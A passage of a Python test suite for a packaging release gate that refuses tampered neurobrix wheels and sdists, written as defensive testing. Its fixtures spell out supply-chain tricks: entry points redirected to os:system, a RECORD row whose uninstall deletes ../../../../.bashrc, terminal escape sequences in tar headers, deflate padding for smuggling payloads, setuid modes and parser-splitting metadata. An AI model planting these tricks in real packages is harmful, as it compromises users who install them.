        (lambda m: m.replace(b"Provides-Extra: dev", b"Provides-Extra: dev\nProvides-Extra: evil", 1), "evil"),
        (lambda m: m + b"\nAn appended paragraph.\n", "description"),
        # what the backend writes, byte for byte: tools decide by Metadata-Version which fields they read, and PyPI
        # shows the bytes uploaded (white space inside a value, another character of the readme)
        (lambda m: re.sub(rb"Metadata-Version: [0-9.]+", b"Metadata-Version: 2.4", m), "Metadata-Version: '2.4'"),
        (lambda m: re.sub(rb"(Summary: .*) (guessed)\n", rb"\1   \2 \t\n", m), "never   guessed \\t'"),
        (lambda m: m.replace("\u2014".encode(), "\u2013".encode(), 1), "description"),
    ],
    ids=[
        "added requirement",
        "widened Python",
        "unpinned torch",
        "added field",
        "added extra",
        "description",
        "another Metadata-Version",
        "white space inside the summary",
        "another dash in the description",
    ],
)
def test_metadata_that_differs_from_pyproject_is_refused(built: Built, tmp_path: Path, edit: object, said: str) -> None:
    wheel, path = wheel_with_file(built, tmp_path, "METADATA", edit(metadata_of(built)))  # type: ignore[operator]
    assert wheel.read_bytes() != built.wheel.read_bytes()
    report = judge(wheel)
    assert codes(report) == {"G406"} and said in refused_with(report, "G406", path).message


def test_metadata_value_of_other_non_ascii_bytes_is_refused(
    built: Built, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Python's email parser reads every byte past ASCII in a field as U+FFFD, so 'Zoé' (bytes C3 A9 at its end)
    and the declared 'Zoë' (C3 AB) once compared equal. Every value here is ASCII, so the repository is one that
    declares a non-ASCII author."""
    import dataclasses

    from gate import checker

    ascii_author = b"Author: The NeuroBrix developers\n"
    assert ascii_author in metadata_of(built)
    repo = checker.load_repository(REPO)
    declared = dataclasses.replace(
        repo.declared, metadata=repo.declared.metadata.replace(ascii_author, "Author: Zo\u00eb\n".encode())
    )
    monkeypatch.setattr(checker, "load_repository", lambda root: dataclasses.replace(repo, declared=declared))
    forged = metadata_of(built).replace(ascii_author, "Author: Zo\u00e9\n".encode())
    wheel, path = wheel_with_file(built, tmp_path, "METADATA", forged)
    assert "'Zo\u00e9'; pyproject.toml declares 'Zo\u00eb'" in refused_with(judge(wheel), "G406", path).message


def hidden_behind_a_carriage_return(metadata: bytes) -> bytes:
    """The same fields, the pins on Python and torch moved behind bare CRs at the end of a Classifier line: Python's
    email parser (pip, packaging, hatchling, the gate) breaks lines at a lone CR, uv's (mailparse, up to uv 0.12) only
    at LF, so to uv 0.12 they are part of the classifier and the wheel resolves with any torch, on any Python (uv
    reads an sdist's PKG-INFO the same way where it takes its metadata from there)."""
    hide = [b"Requires-Python: >=3.10", b"Requires-Dist: torch<2.15,>=2.11"]
    lines = [line for line in metadata.split(b"\n") if line not in hide]
    at = next(i for i, line in enumerate(lines) if line.startswith(b"Classifier:"))
    lines[at] = b"\r".join([lines[at], *hide])
    return b"\n".join(lines)


@pytest.mark.parametrize(
    ("edit", "said"),
    [
        (hidden_behind_a_carriage_return, "carriage return"),
        (lambda m: m.replace(b"\n\n", b"\n", 1), "header block"),  # no blank line: where the fields end differs
        (lambda m: b"From neurobrix\n" + m, "header block"),  # a line Python drops, other parsers read
        # packaging and pip read "0.1.0\x1c" as 0.1.0 (Python's white space), uv's version parser fails on it
        (lambda m: m.replace(b"\nVersion: ", b"\nVersion: \x1c", 1), "control character"),
    ],
    ids=["fields behind a bare CR", "no blank line after the fields", "an mbox From line", "a control character"],
)
@pytest.mark.parametrize("dist", ["wheel", "sdist"])
def test_metadata_whose_fields_parsers_split_differently_is_refused(
    built: Built, tmp_path: Path, edit: object, said: str, dist: str
) -> None:
    if dist == "wheel":
        path = f"{built.dist_info}/METADATA"
        members = wheel_members(built.wheel)
        member(members, path).data = edit(member(members, path).data)  # type: ignore[operator]
        report = judge(write_wheel(built, tmp_path, with_true_record(members)))
    else:
        path = f"{built.root}/PKG-INFO"
        pkg_info = next(m.data for m in sdist_members(built.sdist) if m.name == path)
        report = judge(sdist_with(built, tmp_path, replace={"PKG-INFO": edit(pkg_info)}))  # type: ignore[operator]
    assert said in refused_with(report, "G404", path).message


@pytest.mark.parametrize(
    ("text", "said"),
    [
        (b"[console_scripts]\nneurobrix = neurobrix.cli:main\npip = neurobrix.cli:main\n", "pip"),
        (b"[console_scripts]\nneurobrix = os:system\n", "os:system"),
        (b"[console_scripts]\nneurobrix = neurobrix.cli:main\n[pytest11]\nevil = neurobrix.cli\n", "pytest11"),
        (b"[gui_scripts]\nneurobrix = neurobrix.cli:main\n", "gui_scripts"),
        (b"[console_scripts\nbroken", "neither a [group]"),
        (None, "missing"),
        # lines configparser (the check's reader) and importlib.metadata / distlib (what pip installs from)
        # read differently: each hides a script or plugin from one of them
        (
            b"[console_scripts]\nneurobrix = neurobrix.cli:main\n[DEFAULT]\nneurobrix = x\n  [console_scripts]\n"
            b"  neurobrix = http.server:test\n",
            "[DEFAULT]",
        ),
        (b"[console_scripts]\nneurobrix = neurobrix.cli:main\n;neurobrix = http.server:test\n", "neither a [group]"),
        (b"[console_scripts]\nneurobrix = neurobrix.cli:main\n[pytest11]\n;neurobrix = antigravity\n", "neither"),
        (b"[console_scripts]\nneurobrix = neurobrix.cli:main\n  evil = os:system\n", "white space"),
        (b"[console_scripts]\nneurobrix = neurobrix.cli:main\n#neurobrix = os:system\n", "neither a [group]"),
    ],
    ids=[
        "extra console script",
        "redirected script",
        "plugin group",
        "gui script",
        "malformed",
        "missing",
        "DEFAULT group hiding indented groups",
        "semicolon entry",
        "semicolon plugin",
        "indented entry",
        "hash entry",
    ],
)
def test_entry_points_that_differ_from_pyproject_are_refused(
    built: Built, tmp_path: Path, text: bytes | None, said: str
) -> None:
    wheel, path = wheel_with_file(built, tmp_path, "entry_points.txt", text)
    report = judge(wheel)
    refused_with(report, "G408", path)
    assert [f for f in report.findings if f.code == "G408" and said in f.message], report.findings


@pytest.mark.parametrize(
    ("text", "said"),
    [
        (b"Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: false\nTag: py3-none-any\n", "Root-Is-Purelib"),
        (b"Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: cp311-cp311-linux_x86_64\n", "Tag"),
        (b"Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\nTag: py2-none-any\n", "Tag"),
        (b"Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\nBuild: 1\n", "Build"),
        (b"Wheel-Version: 2.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n", "Wheel-Version"),
        # read one way by pip, another by uv (keys case-sensitive) or by installer ('true ' is not purelib)
        (b"wheel-version: 1.0\ngenerator: x\nroot-is-purelib: true\ntag: py3-none-any\n", "spelt so"),
        (b"Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true \nTag: py3-none-any\n", "nothing around"),
        # after a blank line: the body to Python's email parser (pip, installer), more keys to a line reader
        (
            b"Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n\nRoot-Is-Purelib: false\n",
            "after",
        ),
        # planted (2026-12-03): a WHEEL without a Generator passed (the check counted more than one only)
        (b"Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n", "exactly one Generator"),
    ],
    ids=[
        "platlib",
        "platform tag",
        "extra tag",
        "build number",
        "future version",
        "lower-case keys",
        "purelib with a trailing space",
        "a key after the fields",
        "no generator",
    ],
)
def test_wheel_file_that_lies_is_refused(built: Built, tmp_path: Path, text: bytes, said: str) -> None:
    wheel, path = wheel_with_file(built, tmp_path, "WHEEL", text)
    report = judge(wheel)
    assert said in refused_with(report, "G407", path).message


def test_wheel_named_for_another_platform_is_refused(built: Built, tmp_path: Path) -> None:
    renamed = tmp_path / built.wheel.name.replace("py3-none-any", "cp311-cp311-manylinux_2_28_x86_64")
    renamed.write_bytes(built.wheel.read_bytes())
    report = judge(renamed)
    assert "tags" in refused_with(report, "G407", None, renamed.name).message


def test_wheel_named_with_a_build_tag_is_refused(built: Built, tmp_path: Path) -> None:
    """The project's wheel renamed with build tag 1: pip and PyPI take it for another file of the same release, which
    outranks the plain one (mutation round: the build tag unread, and the wheel passed, its name then held to no
    canonical spelling)."""
    renamed = tmp_path / built.wheel.name.replace("-py3-none-any", "-1-py3-none-any")
    renamed.write_bytes(built.wheel.read_bytes())
    assert "build tag 1" in refused_with(judge(renamed), "G407", None, renamed.name).message


def in_other_digits(number: str) -> str:
    """The same number in Arabic-Indic digits: Python's \\d and int() read it, a Rust u64 (uv) does not."""
    return "".join(chr(0x660 + int(d)) for d in number)


def md5_of(path: Path) -> str:
    import base64
    import hashlib

    return base64.urlsafe_b64encode(hashlib.md5(path.read_bytes()).digest()).rstrip(b"=").decode()


@pytest.mark.parametrize(
    ("edit", "said"),
    [
        (lambda row: row.rsplit(",", 1)[0] + "," + in_other_digits(row.rsplit(",", 1)[1]), "not a whole number"),
        (lambda row: row + "\n", "empty line"),  # pip (IndexError) and installer fail on it, uv skips it
        # pip copies RECORD rows it did not install into the installed RECORD, and `pip uninstall` deletes them
        (lambda row: row + "\n../../../../.bashrc,,", "unsafe"),
        # installer verifies any algorithm hashlib knows (md5 too), pip none: only sha256 and stronger are read
        (lambda row: row.split(",")[0] + ",md5=" + md5_of(REPO / "neurobrix/cli.py") + "," + row.split(",")[2], "md5="),
    ],
    ids=["size in other digits", "an empty line", "a row outside the wheel", "an md5 hash"],
)
def test_record_rows_installers_read_differently_are_refused(
    built: Built, tmp_path: Path, edit: object, said: str
) -> None:
    path = f"{built.dist_info}/RECORD"
    members = wheel_members(built.wheel)
    text = member(members, path).data.decode()
    row = next(line for line in text.splitlines() if line.startswith("neurobrix/cli.py,"))
    member(members, path).data = text.replace(row, edit(row), 1).encode()  # type: ignore[operator]
    report = judge(write_wheel(built, tmp_path, members))
    assert [f for f in report.findings if f.code == "G206" and said in f.message], report.findings


RECORD_VALIDATION = {  # twelfth round: rows pip and uv read unchecked, installer's record validation refuses
    "RECORD's own row left out": (lambda rec, text: text.replace(f"{rec},,\n", ""), "G202", "record validation"),
    "RECORD's own row with a size": (lambda rec, text: text.replace(f"{rec},,", f"{rec},,1234"), "G206", "neither"),
    "a row without the file's size": (
        lambda rec, text: re.sub(r"(neurobrix/cli\.py,sha256=[^,]+),[0-9]+", r"\1,", text),
        "G206",
        "no size",
    ),
    # planted (2026-12-03): a row with no hash taken for one that needs none, and its member never hashed
    "a row without the file's hash": (
        lambda rec, text: re.sub(r"(neurobrix/cli\.py,)sha256=[^,]+,", r"\1,", text),
        "G206",
        "no hash",
    ),
}


@pytest.mark.parametrize("attack", list(RECORD_VALIDATION))
def test_record_rows_installers_validation_refuses_are_refused(built: Built, tmp_path: Path, attack: str) -> None:
    """installer's record validation (which Poetry runs before it installs) wants every member listed with its hash
    and size, RECORD itself with neither; the gate let RECORD go unlisted or list a size nobody checked (1234 bytes
    here), and a row give no size at all, so it passed wheels that installer refuses."""
    from installer.sources import WheelFile

    edit, code, said = RECORD_VALIDATION[attack]
    path = f"{built.dist_info}/RECORD"
    members = wheel_members(built.wheel)
    record = member(members, path)
    record.data = edit(path, record.data.decode()).encode()  # type: ignore[operator]
    wheel = write_wheel(built, tmp_path, members)
    with WheelFile.open(wheel) as source, pytest.raises(ValueError, match="RECORD"):
        source.validate_record()
    report = judge(wheel)
    assert said in refused_with(report, code, path if code == "G202" or "own" in attack else "neurobrix/cli.py").message


@pytest.mark.parametrize("spelling", ["version", "name"])
@pytest.mark.parametrize("dist", ["wheel", "sdist"])
def test_dist_file_name_spelling_the_release_otherwise_is_refused(
    built: Built, tmp_path: Path, spelling: str, dist: str
) -> None:
    """neurobrix-0.1.0.0 or NeuroBrix-0.1.0 is release 0.1.0 of neurobrix to packaging, pip, uv and PyPI (versions
    compare equal), but another file: a second upload of one version, under a name no build writes."""
    stem = f"neurobrix-{built.version}.0" if spelling == "version" else f"NeuroBrix-{built.version}"
    if dist == "wheel":
        path = tmp_path / f"{stem}-py3-none-any.whl"
        path.write_bytes(built.wheel.read_bytes())
    else:
        members = [
            RawTarMember(stem + m.name[len(built.root) :], m.data, m.type, mode=m.mode)
            for m in sdist_members(built.sdist)
        ]
        path = write_sdist(tmp_path / f"{stem}.tar.gz", raw_tar(members))
    report = judge(path)
    assert "otherwise than the specifications" in refused_with(report, "G405", None, path.name).message


@pytest.mark.parametrize(
    "link", ["neurobrix-{v}-py3-none-macosx_11_0_arm64.whl", "NeuroBrix-{v}-py3-none-any.whl", "neurobrix-{v}.tar.gz"]
)
def test_a_dist_named_through_a_link_is_refused(built: Built, tmp_path: Path, link: str) -> None:
    """`twine upload LINK` uploads the bytes the link points at under the link's own name. Followed to its target
    and judged under the target's name, the pure wheel passed as a macOS wheel or as NeuroBrix-0.1.0 (a second file
    of one release), and an sdist name uploaded a wheel's bytes."""
    name = link.format(v=built.version)
    (tmp_path / name).symlink_to(built.wheel)
    report = judge(tmp_path / name, *([] if name.endswith(".tar.gz") else [built.sdist]))
    assert "a link" in refused_with(report, "G001", name).message
    assert built.wheel.name not in [d.file for d in report.dists]
    alone = judge(tmp_path / name)  # a finding (exit 1), not "nothing to check" (exit 2)
    assert alone.exit_code == 1 and codes(alone) == {"G001"} and alone.dists == []


# 8. Reports: capped per check, each finding on the dist it is about


@pytest.mark.parametrize(("attack", "code"), [("60,000 members", "G314"), ("100,000 members", "G313")])
def test_junk_members_past_the_limit_make_one_finding(built: Built, tmp_path: Path, attack: str, code: str) -> None:
    wheel = bomb_wheel(built, tmp_path, attack)
    report = judge(wheel, built.sdist)
    assert [(f.code, f.dist) for f in report.findings] == [(code, built.wheel.name)]
    assert len(report.render().splitlines()) < 10


def test_hundreds_of_junk_members_are_capped_and_blamed_on_the_wheel(built: Built, tmp_path: Path) -> None:
    junk = [RawMember(f"neurobrix/junk/{i}.py".encode(), b"x = 1\n") for i in range(500)]
    (tmp_path / "dist").mkdir()
    wheel = write_wheel(built, tmp_path / "dist", with_true_record([*wheel_members(built.wheel), *junk]))
    sdist = tmp_path / "dist" / built.sdist.name
    sdist.write_bytes(built.sdist.read_bytes())
    report = judge(wheel, sdist)
    g107 = [f for f in report.findings if f.code == "G107"]
    assert len(g107) == SHOWN_PER_CHECK + 1 and "480 more G107 findings" in g107[-1].message
    assert g107[-1].path == sorted(m.name.decode() for m in junk)[SHOWN_PER_CHECK]  # the first not shown
    assert {f.dist for f in report.findings} == {built.wheel.name}
    assert all(f.path for f in report.findings)
    assert len(report.render().splitlines()) < 40


# A property: no byte mutation of a good wheel yields a traceback, and none passes unless nothing it installs changed


def contents(data: bytes) -> dict[str, tuple[bytes, bool]] | None:
    try:
        with zipfile.ZipFile(io.BytesIO(data)) as z:
            return {i.filename: (z.read(i), bool((i.external_attr >> 16) & 0o111)) for i in z.infolist()}
    except Exception:  # noqa: BLE001 - whatever zipfile makes of it, it is not the good wheel
        return None


@settings(max_examples=40, deadline=None, derandomize=True, suppress_health_check=list(HealthCheck))
@given(
    edits=st.lists(
        st.tuples(st.sampled_from(["flip", "set", "insert", "delete"]), st.floats(0, 1), st.integers(0, 255)),
        min_size=1,
        max_size=3,
    )
)
def test_random_byte_mutations_never_crash_and_never_pass_a_change(
    built: Built, tmp_path_factory: pytest.TempPathFactory, edits: list[tuple[str, float, int]]
) -> None:
    good = built.wheel.read_bytes()
    data = bytearray(good)
    for kind, where, value in edits:
        at = min(int(where * len(data)), len(data) - 1)
        if kind == "flip":
            data[at] ^= 1 << (value % 8)
        elif kind == "set":
            data[at] = value
        elif kind == "insert":
            data[at:at] = bytes([value])
        else:
            del data[at]
    wheel = tmp_path_factory.mktemp("mutated") / built.wheel.name
    wheel.write_bytes(bytes(data))
    try:
        report = judge(wheel)
    except GateError:
        return  # exit 2: not an archive at all
    if report.passed:
        assert contents(bytes(data)) == contents(good), "a mutation that changes what installs passed"


def test_the_command_line_answers_mutated_wheels_without_a_traceback(built: Built, tmp_path: Path) -> None:
    good = built.wheel.read_bytes()
    for i, at in enumerate([4, len(good) // 2, len(good) - 12]):
        data = bytearray(good)
        data[at] ^= 0xFF
        folder = tmp_path / str(i)
        folder.mkdir()
        (folder / built.wheel.name).write_bytes(bytes(data))
        gate_cli("check", "--no-smoke", str(folder / built.wheel.name))


# Controls: the same contents written by other well-behaved writers still pass (the gate judges contents, not
# the incidental bytes of one writer)


def test_the_same_wheel_written_by_another_zip_writer_passes(built: Built, tmp_path: Path) -> None:
    wheel = write_wheel(built, tmp_path / "dist", wheel_members(built.wheel))  # other timestamps and deflate level
    assert wheel.read_bytes() != built.wheel.read_bytes()
    sdist = tmp_path / "dist" / built.sdist.name
    sdist.write_bytes(built.sdist.read_bytes())
    report = judge(wheel, sdist)
    assert report.findings == [] and report.passed


def test_the_same_sdist_written_with_pax_times_passes(built: Built, tmp_path: Path) -> None:
    members = [RawTarMember(m.name, m.data, m.type, pax={"mtime": "1580601600.5"}) for m in sdist_members(built.sdist)]
    sdist = write_sdist(tmp_path / built.sdist.name, raw_tar(members))
    report = judge(sdist)
    assert report.findings == [] and report.passed


# The gate's own process: the bytes it judged are the bytes its report names


@pytest.mark.parametrize("dist", ["wheel", "sdist"])
def test_a_dist_swapped_on_disk_while_it_is_judged_is_refused_and_reported_by_its_judged_bytes(
    built: Built, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, dist: str
) -> None:
    """Another process replaces a dist after the gate has read it (here: once every archive is open). The
    report must not pass it, and the sha256 it gives the publish step must be that of the bytes judged."""
    import hashlib

    from gate import checker

    folder = tmp_path / "upload"
    folder.mkdir()
    wheel, sdist = folder / built.wheel.name, folder / built.sdist.name
    wheel.write_bytes(built.wheel.read_bytes())
    sdist.write_bytes(built.sdist.read_bytes())
    target = wheel if dist == "wheel" else sdist
    judged = hashlib.sha256(target.read_bytes()).hexdigest()
    swapped = target.read_bytes()[:-1] + b"\x01"  # anything else: the gate never reads it
    real_load = checker.load_repository

    def load_and_swap(root: Path) -> object:
        target.write_bytes(swapped)
        return real_load(root)

    monkeypatch.setattr(checker, "load_repository", load_and_swap)
    report = judge(folder)
    refused_with(report, "G003", None, target.name)
    assert {d.file: d.sha256 for d in report.dists}[target.name] == judged
    assert report.as_json()["verdict"] == "refused"


# 9. Planted bugs the suite missed (2026-12-02): each case below fails with one of them


def package_file_last(members: list[RawMember]) -> str:
    """The package file that sorts last (the one a loop that stops one short never reaches)."""
    return max(n for m in members if (n := m.name.decode()).startswith("neurobrix/") and "/_tables/" not in n)


def planted_table_mode(built: Built, members: list[RawMember]) -> str:
    member(members, TABLE.wheel_path).mode = stat.S_IFREG | 0o755
    return TABLE.wheel_path


def planted_folder(built: Built, members: list[RawMember]) -> str:
    members.append(RawMember(b"neurobrix/evil/", b"", method=zipfile.ZIP_STORED, mode=stat.S_IFDIR | 0o755))
    return "neurobrix/evil/"


def dropped_last_package_file(built: Built, members: list[RawMember]) -> str:
    last = package_file_last(members)
    members.remove(member(members, last))
    return last


def tracked_list_with_a_blank_line(built: Built, members: list[RawMember]) -> str:
    member(members, TRACKED_IN_WHEEL).data += b"\n"
    return TRACKED_IN_WHEEL


WHEEL_DAMAGE = {  # planted bug it catches -> (the damage, which returns the member named; the code; what is said)
    "a table's executable bit not judged": (planted_table_mode, "G109", "a table never is"),
    "a folder entry allowed by its top-level folder": (planted_folder, "G107", "folder entry"),
    "the last package file not required": (dropped_last_package_file, "G108", "missing from the wheel"),
    "the tracked list compared stripped": (tracked_list_with_a_blank_line, "G106", "other bytes"),
}


@pytest.mark.parametrize("planted", list(WHEEL_DAMAGE))
def test_wheel_members_are_judged_each_one_in_full(built: Built, tmp_path: Path, planted: str) -> None:
    damage, code, said = WHEEL_DAMAGE[planted]
    members = wheel_members(built.wheel)
    name = damage(built, members)
    report = judge(write_wheel(built, tmp_path, with_true_record(members)))
    assert said in refused_with(report, code, name).message


def test_a_declared_license_file_is_compared_with_the_repositorys(
    built: Built, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Planted: a licenses/ file not compared. The metadata here names no License-File, so the repository is one
    that declares README.md as its license file."""
    import dataclasses

    from gate import checker

    repo = checker.load_repository(REPO)
    declared = dataclasses.replace(repo.declared, license_files=("README.md",))
    monkeypatch.setattr(checker, "load_repository", lambda root: dataclasses.replace(repo, declared=declared))
    name = f"{built.dist_info}/licenses/README.md"
    members = wheel_members(built.wheel)
    members.append(RawMember(name.encode(), same_size_change((REPO / "README.md").read_bytes())))
    report = judge(write_wheel(built, tmp_path, with_true_record(members)))
    assert "differs from the repository's README.md" in refused_with(report, "G109", name).message


def record_row(built: Built, text: str, name: str) -> str:
    return next(line for line in text.splitlines() if line.startswith(f"{name},"))


RECORD_DAMAGE = {  # planted bug it catches -> (RECORD's text -> the damaged text, the code, the member named)
    "a row listed twice, the last one read": (
        lambda b, text: text.replace(r := record_row(b, text, "neurobrix/cli.py"), f"{r.replace('=', '=A', 1)}\n{r}"),
        "G206",
        "neurobrix/cli.py",
    ),
    "a row's hash recomputed as sha256 whatever it names": (
        lambda b, text: text.replace("neurobrix/cli.py,sha256=", "neurobrix/cli.py,sha512=", 1),
        "G203",
        "neurobrix/cli.py",
    ),
    "a size larger than the member's": (
        lambda b, text: text.replace(
            r := record_row(b, text, "neurobrix/cli.py"), f"{r.rsplit(',', 1)[0]},{int(r.rsplit(',', 1)[1]) + 1}"
        ),
        "G204",
        "neurobrix/cli.py",
    ),
    "a .dist-info file left out": (
        lambda b, text: text.replace(record_row(b, text, f"{b.dist_info}/METADATA") + "\n", ""),
        "G202",
        "{dist_info}/METADATA",
    ),
}


@pytest.mark.parametrize("planted", list(RECORD_DAMAGE))
def test_record_rows_that_misstate_a_member_are_refused(built: Built, tmp_path: Path, planted: str) -> None:
    edit, code, name = RECORD_DAMAGE[planted]
    path = f"{built.dist_info}/RECORD"
    members = wheel_members(built.wheel)
    member(members, path).data = edit(built, member(members, path).data.decode()).encode()  # type: ignore[operator]
    report = judge(write_wheel(built, tmp_path, members))
    refused_with(report, code, name.format(dist_info=built.dist_info))


# 10. Round 14 (2026-12-03): bytes the gate passed unjudged, and modes other unpackers apply


def padded_deflate(data: bytes, blocks: int) -> bytes:
    """``data`` deflated, then ``blocks`` empty stored blocks (5 bytes each, 5 free bits in the first: here a count),
    then an empty final block: a stream every inflater reads to ``data``, of any length the attacker likes."""
    packer = zlib.compressobj(6, zlib.DEFLATED, -15)
    body = packer.compress(data) + packer.flush(zlib.Z_SYNC_FLUSH)
    return body + b"".join(bytes([(i % 32) << 3]) + b"\x00\x00\xff\xff" for i in range(blocks)) + b"\x03\x00"


def test_a_wheel_member_in_a_padded_deflate_stream_is_refused(built: Built, tmp_path: Path) -> None:
    """The package's __init__.py (116 bytes) in a deflate stream padded with empty stored blocks to a megabyte: zipfile
    (pip, installer, twine) inflates it to the same bytes, its CRC and sizes are true, and the gate passed it, so any
    payload of any size (a build machine's secrets, say) rode into the upload unjudged."""
    members = wheel_members(built.wheel)
    target = member(members, FIRST_MEMBER)
    target.compressed = padded_deflate(target.data, 200_000)
    wheel = write_wheel(built, tmp_path, members)
    with zipfile.ZipFile(wheel) as z:
        assert z.read(FIRST_MEMBER) == target.data  # what pip installs
    assert "padding" in refused_with(judge(wheel), "G311", FIRST_MEMBER, built.wheel.name).message
    target.compressed = None  # the same member deflated by a compressor passes
    assert judge(write_wheel(built, tmp_path, members)).passed


def test_an_sdist_in_a_padded_gzip_stream_is_refused(built: Built, tmp_path: Path) -> None:
    """The sdist's tar in a gzip member whose deflate stream is padded with empty stored blocks: Python's gzip (pip,
    twine) unpacks the same tar, and the gate passed it with any payload inside."""
    tar = raw_tar(sdist_members(built.sdist))
    sdist = tmp_path / built.sdist.name
    header = b"\x1f\x8b\x08\x00" + bytes(4) + b"\x00\xff"
    sdist.write_bytes(header + padded_deflate(tar, 200_000) + struct.pack("<LL", zlib.crc32(tar), len(tar)))
    assert gzip.decompress(sdist.read_bytes()) == tar  # what pip unpacks
    assert "padding" in refused_with(judge(sdist), "G311", None, built.sdist.name).message


OWNER_NAMES = {  # a ustar header's owner and group names: no unpacker reads them, `tar -tv` prints them as they are
    "an escape sequence in the owner name": ({265: b"\x1b]0;ok\x07\x1b[2J\0"}, "not printable ASCII"),
    "bytes after the NUL of the group name": ({297: b"\0" + PAYLOAD[:31]}, "bytes after the NUL that ends its group"),
}


@pytest.mark.parametrize("attack", list(OWNER_NAMES))
def test_sdist_owner_names_are_judged(built: Built, tmp_path: Path, attack: str) -> None:
    """The gate held a pax header's uname and gname to printable ASCII and a ustar name, prefix and link name to
    nothing after their NUL, but read no byte of the ustar owner and group name fields: 64 bytes a header of anything,
    escape sequences that repaint the terminal of a reviewer listing the sdist with `tar -tvzf` included."""
    edits, said = OWNER_NAMES[attack]
    tar, name = tar_with_header_bytes(built, edits)
    with tarfile.open(fileobj=io.BytesIO(tar)) as unpacked:  # what pip unpacks: every member, as without the change
        assert len(unpacked.getmembers()) == len(sdist_members(built.sdist))
    report = judge(write_sdist(tmp_path / built.sdist.name, tar))
    assert said in refused_with(report, "G312", name).message


@pytest.mark.parametrize(
    ("rel", "kind", "mode", "said"),
    [
        ("neurobrix/ops/", tarfile.DIRTYPE, 0o311, "cannot list or enter it"),
        ("neurobrix/ops/__init__.py", tarfile.REGTYPE, 0o000, "cannot read it"),
        ("neurobrix/__init__.py", tarfile.REGTYPE, 0o100644, "past the permission bits"),
        ("neurobrix/ops/", tarfile.DIRTYPE, 0o611, "cannot list or enter it"),
    ],
    ids=[
        "a folder its owner cannot list",
        "a file its owner cannot read",
        "file type bits in the mode",
        "a folder its owner can read but not enter",  # mutation round: the search bit a folder needs
    ],
)
def test_sdist_modes_other_unpackers_apply_are_refused(
    built: Built, tmp_path: Path, rel: str, kind: bytes, mode: int, said: str
) -> None:
    """pip's unpacker ignores every mode bit but the executable ones, so the gate judged no others; tarfile's
    extractall without a filter (Python's default before 3.14) and GNU tar apply them. neurobrix/ops/ given mode 311
    after its files, unpacked so and built by hatchling as a user without CAP_DAC_OVERRIDE, gave a wheel of 64
    members without neurobrix/ops/ (hatchling's os.walk skips a folder it cannot list without an error); pip and the
    gate's own rebuild built all 72."""
    name = f"{built.root}/{rel}"
    if kind == tarfile.DIRTYPE:
        sdist = sdist_with(built, tmp_path, add=[RawTarMember(name, b"", kind, mode=mode)])
    elif mode > 0o7777:  # tarfile writes only the permission bits: the field is set by hand
        tar, name = tar_with_header_bytes(built, {100: b"%07o\0" % mode})
        sdist = write_sdist(tmp_path / built.sdist.name, tar)
    else:
        members = sdist_members(built.sdist)
        next(m for m in members if m.name == name).mode = mode
        sdist = write_sdist(tmp_path / built.sdist.name, raw_tar(members))
    assert said in refused_with(judge(sdist), "G509", name).message


# Fifteenth round: what the gate read of a member's zip attributes and tar header was less than some tool applies, and
# a wheel judged without its sdist (where the rebuild, G508, holds every member's bytes) could spell the files a build
# writes (WHEEL, entry_points.txt, RECORD) with bytes no installer reads


def with_central(data: bytes, edit: Callable[[bytearray, int, bytes], None]) -> bytes:
    """The zip ``data`` with ``edit(data, offset, name)`` applied to each central directory entry."""
    out = bytearray(data)
    at = struct.unpack_from("<L", out, len(out) - 6)[0]  # the central directory's offset, from the end record
    while out[at : at + 4] == b"PK\x01\x02":
        name_len, extra_len, comment_len = struct.unpack_from("<3H", out, at + 28)
        edit(out, at, bytes(out[at + 46 : at + 46 + name_len]))
        at += 46 + name_len + extra_len + comment_len
    return bytes(out)


ZIP_MODES = {  # the Unix mode of one member: pip, installer and uv apply only its executable bits, `unzip` the rest
    "setuid": ("neurobrix/cli.py", 0o104644, "setuid"),
    "setgid": ("neurobrix/cli.py", 0o102644, "setgid"),
    "sticky": ("neurobrix/cli.py", 0o101644, "sticky"),
    "world-writable": (TABLE.wheel_path, 0o100666, "world-writable"),
    "a file its owner cannot read": ("neurobrix/cli.py", 0o100200, "cannot read it"),
    "a world-writable folder": ("neurobrix/", 0o40777, "world-writable"),
    "a folder its owner cannot list": ("neurobrix/", 0o40300, "cannot list or enter it"),
    # mutation round: a folder's owner needs the search bit too, not only the read bit a file needs
    "a folder its owner can read but not enter": ("neurobrix/", 0o40600, "cannot list or enter it"),
}


@pytest.mark.parametrize("attack", list(ZIP_MODES))
def test_wheel_member_modes_unzip_applies_are_refused(built: Built, tmp_path: Path, attack: str) -> None:
    """The gate read only the executable bits of a wheel member's mode (what pip, installer and uv apply), so a
    setuid, sticky or world-writable package file or table, or one its owner cannot read, passed: `unzip` applies
    them, and no build of this project writes them (hatchling writes 644, or 755)."""
    name, mode, said = ZIP_MODES[attack]
    members = wheel_members(built.wheel)
    if name.endswith("/"):
        members.insert(0, RawMember(name.encode(), b"", zipfile.ZIP_STORED, mode=mode))
    else:
        member(members, name).mode = mode
    wheel = write_wheel(built, tmp_path, members)
    with zipfile.ZipFile(wheel) as z:  # what pip installs: the same bytes; what unzip applies: the mode
        assert z.getinfo(name).external_attr >> 16 == mode
    assert said in refused_with(judge(wheel), "G315", name, built.wheel.name).message


@pytest.mark.parametrize("host", [10, 19, 255], ids=["NTFS", "OS X", "unknown"])
def test_wheel_made_on_a_host_whose_modes_uv_does_not_read_is_refused(built: Built, tmp_path: Path, host: int) -> None:
    """pip and installer read the Unix mode in a member's external attributes whatever host "version made by" names;
    uv's zip readers only on an entry made on Unix (or, the zip crate, an MS-DOS one's attributes). Any other host byte
    passed: a byte a member no tool reads alike, and a mode the installers read two ways."""

    def rehost(data: bytearray, at: int, name: bytes) -> None:
        if name == b"neurobrix/cli.py":
            data[at + 5] = host

    wheel = tmp_path / built.wheel.name
    wheel.write_bytes(with_central(raw_zip(wheel_members(built.wheel)), rehost))
    with zipfile.ZipFile(wheel) as z:
        assert z.getinfo("neurobrix/cli.py").create_system == host
